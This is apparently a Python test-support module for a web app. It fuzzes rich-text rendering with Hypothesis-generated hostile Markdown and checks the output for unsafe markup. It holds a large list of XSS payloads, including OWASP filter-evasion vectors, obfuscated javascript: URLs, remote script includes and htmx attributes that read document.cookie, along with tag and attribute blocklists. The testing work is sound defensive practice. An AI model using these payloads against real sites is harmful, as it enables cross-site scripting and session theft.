"""Hostile input for the rich-text fields, and a check for unsafe markup in what comes out.

`hostile_markdown()` composes fragments an attacker would try: raw tags and event handlers,
`hx-*` attributes, `javascript:`/`data:`/`vbscript:` URLs (also obfuscated with entities,
control characters and case), Markdown links, images, reference definitions and autolinks,
OWASP filter-evasion vectors, NUL bytes and awkward Unicode. It is used on `render_markdown`
directly (test_markdown_fuzz.py) and is meant to be driven through the real forms as well.

`unsafe_markup(html)` lists what would be dangerous *as markup*: a disallowed tag, an event
handler, an `hx-*`/`data-hx-*` or `style` attribute, a URL attribute with a script-capable
scheme. Text is not searched: the words "javascript:" or "onclick=" in a story are harmless
once escaped, and every `<` in text is escaped, so a raw `<script` can only be markup.
"""

from __future__ import annotations

import re
import unicodedata
from html.parser import HTMLParser

from hypothesis import strategies as st

SCHEMES = [
    "javascript:",
    "JaVaScRiPt:",
    " javascript:",
    "\tjavascript:",
    "\x01javascript:",
    "jav\tascript:",
    "jav&#x09;ascript:",
    "jav&#x0A;ascript:",
    "jav&#x0D;ascript:",
    "jav\x00ascript:",
    "&#106;avascript:",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058",
    "javascript&colon;",
    "javascript&#58;",
    "%6A%61%76%61%73%63%72%69%70%74:",
    "java\\script:",
    "vbscript:",
    "VBScript:",
    "data:",
    "DATA:",
    "data:text/html;base64,",
    "data:image/svg+xml,",
    "livescript:",
    "file:",
    "&#x64;ata:",
    "ｊａｖａｓｃｒｉｐｔ:",
]

PAYLOADS = [
    "alert(1)",
    "alert(document.cookie)",
    "//%0aalert(1)",
    "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<svg onload=alert(1)>",
    "fetch('/examples/1/hide/',{method:'POST'})",
    "void(0)",
    "",
]

TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "<<SCRIPT>alert('XSS');//<</SCRIPT>",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<base href=javascript:/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<x onmouseover=alert(1)>hover</x>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width:expression(alert(1))">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<a href=javascript&colon;alert(1)>x</a>",
    "<a href=x hx-on:click=alert(1)>x</a>",
    "<a href=x hx-on::before-request=alert(1)>x</a>",
    '<div hx-get="/moderation/" hx-trigger="load" hx-target="body">',
    '<div data-hx-post="/examples/1/hide/" data-hx-trigger="load">',
    "<button hx-post=\"/examples/1/hide/\" hx-vals='js:{reason: document.cookie}'>x</button>",
    '<span hx-swap-oob="true" id="messages">x</span>',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    '<a href="http://ok.example" onclick="alert(1)" style="x" hx-get="/">ok</a>',
    "<table background=javascript:alert(1)>",
    '<td background="javascript:alert(1)">',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href=" &#14;  javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "</p><script>alert(1)</script><p>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "＜script＞alert(1)＜/script＞",
]

ATTRIBUTES = [
    " onerror=alert(1)",
    ' onclick="alert(1)"',
    " ONMOUSEOVER=alert(1)",
    " on\x00load=alert(1)",
    ' style="color:red"',
    ' hx-get="/"',
    ' hx-on:click="alert(1)"',
    ' data-hx-get="/"',
    ' href="javascript:alert(1)"',
    " src=x",
    " id=messages",
    " class=secret",
]

ENTITIES = [
    "&lt;",
    "&gt;",
    "&amp;",
    "&quot;",
    "&#60;",
    "&#x3C;",
    "&#0;",
    "&#xD800;",
    "&nbsp;",
    "&colon;",
    "&NewLine;",
    "&Tab;",
]

MARKDOWN = [
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```\n",
    "> <img src=x onerror=alert(1)>",
    "* <b onclick=alert(1)>x</b>",
    "| a | b |\n|---|---|\n| <script> | <img onerror=alert(1)> |\n",
    "~~<svg onload=alert(1)>~~",
    "\\<script>alert(1)\\</script>",
    "# Heading <script>",
    "***",
    "{{ request.user.password }}",
    "{% debug %}",
    "[a]: javascript:alert(1)\n\n[click][a]",
    '[a]: <javascript:alert(1)> "title"\n\n[a]',
]

UNICODE = [
    "\x00",
    "\u202e",
    "\u200b",
    "\ufeff",
    "\u2028",
    "\ud7ff",
    "é",
    "💥",
    "\r\n",
    "\x0b",
    "\x1b[31m",
]


def _link(kind: str, label: str, scheme: str, payload: str, title: str) -> str:
    url = f"{scheme}{payload}"
    if kind == "link":
        return f"[{label}]({url})"
    if kind == "link-title":
        return f'[{label}]({url} "{title}")'
    if kind == "link-angle":
        return f"[{label}](<{url}>)"
    if kind == "image":
        return f"![{label}]({url})"
    if kind == "autolink":
        return f"<{url}>"
    if kind == "reference":
        return f"[{label}][r]\n\n[r]: {url}\n"
    return f"[{label}]({url}){title}"


links = st.builds(
    _link,
    st.sampled_from(["link", "link-title", "link-angle", "image", "autolink", "reference", "bare"]),
    st.sampled_from(["x", "click me", "<img src=x onerror=alert(1)>", "**bold**", ""]),
    st.sampled_from([*SCHEMES, "https://ok.example/", "mailto:", "/relative", "#frag"]),
    st.sampled_from(PAYLOADS),
    st.sampled_from(["", "t", '" onmouseover="alert(1)', "' hx-get='/'"]),
)

tag_with_attributes = st.builds(
    lambda tag, attributes, close: f"<{tag}{''.join(attributes)}{close}",
    st.sampled_from(["a", "p", "img", "div", "span", "svg", "iframe", "code", "h1", "td", "x"]),
    st.lists(st.sampled_from(ATTRIBUTES), min_size=1, max_size=3),
    st.sampled_from([">", "/>", " >", ""]),
)

fragment = st.one_of(
    st.sampled_from(TAGS),
    st.sampled_from(MARKDOWN),
    st.sampled_from(ENTITIES),
    st.sampled_from(UNICODE),
    links,
    tag_with_attributes,
    st.text(max_size=20),
    st.text(alphabet="<>\"'`=&;:/()[]!#*_\\ \n\tonhx-", max_size=30),
)


def hostile_markdown(max_fragments: int = 8) -> st.SearchStrategy[str]:
    """A story made of 1..max_fragments hostile fragments, glued with Markdown-ish separators."""
    return st.builds(
        lambda parts, glue: glue.join(parts),
        st.lists(fragment, min_size=1, max_size=max_fragments),
        st.sampled_from(["", " ", "\n", "\n\n", "\n> ", "\n* ", "`", "|"]),
    )


# What may never appear as markup in rendered user content.
ALWAYS_FORBIDDEN_TAGS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "base",
    "meta", "link", "form", "input", "button", "textarea", "select", "svg", "math", "template",
    "img", "video", "audio", "source", "body", "html", "head", "title", "noscript", "xml",
}  # fmt: skip
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "xlink:href", "srcset", "poster", "background",
    "data", "codebase", "cite", "longdesc", "usemap", "dynsrc", "lowsrc", "ping",
}  # fmt: skip
SAFE_SCHEMES = {"http", "https", "mailto"}
_SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):", re.I)
_INVISIBLE = re.compile(r"[\x00-\x20\x7f-\x9f\u200b-\u200f\u2028-\u202e\ufeff]")


def url_scheme(value: str) -> str | None:
    """The scheme a browser would see, after undoing the usual obfuscations."""
    cleaned = _INVISIBLE.sub("", unicodedata.normalize("NFKC", value)).lower()
    match = _SCHEME.match(cleaned)
    return match.group(1) if match else None


class _MarkupAudit(HTMLParser):
    def __init__(self, allowed_tags: set[str] | None) -> None:
        super().__init__(convert_charrefs=True)
        self.allowed_tags = allowed_tags
        self.findings: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ALWAYS_FORBIDDEN_TAGS or (
            self.allowed_tags is not None and tag not in self.allowed_tags
        ):
            self.findings.append(f"tag <{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name.startswith(("hx-", "data-hx-")) or name == "style":
                self.findings.append(f"attribute {name} on <{tag}>")
            if name in URL_ATTRIBUTES and value is not None:
                scheme = url_scheme(value)
                if scheme is not None and scheme not in SAFE_SCHEMES:
                    self.findings.append(f"{scheme}: URL in {name} on <{tag}>")

    handle_startendtag = handle_starttag

    def handle_comment(self, data: str) -> None:
        self.findings.append("comment")

    def handle_pi(self, data: str) -> None:
        self.findings.append("processing instruction")

    def unknown_decl(self, data: str) -> None:
        self.findings.append("declaration")


def unsafe_markup(html: str, allowed_tags: set[str] | None = None) -> list[str]:
    """Everything in `html` that would be dangerous as markup; empty when it is safe."""
    audit = _MarkupAudit(allowed_tags)
    audit.feed(html)
    audit.close()
    findings = audit.findings
    if re.search(r"<\s*script", html, re.I):
        findings.append("raw <script")
    return findings
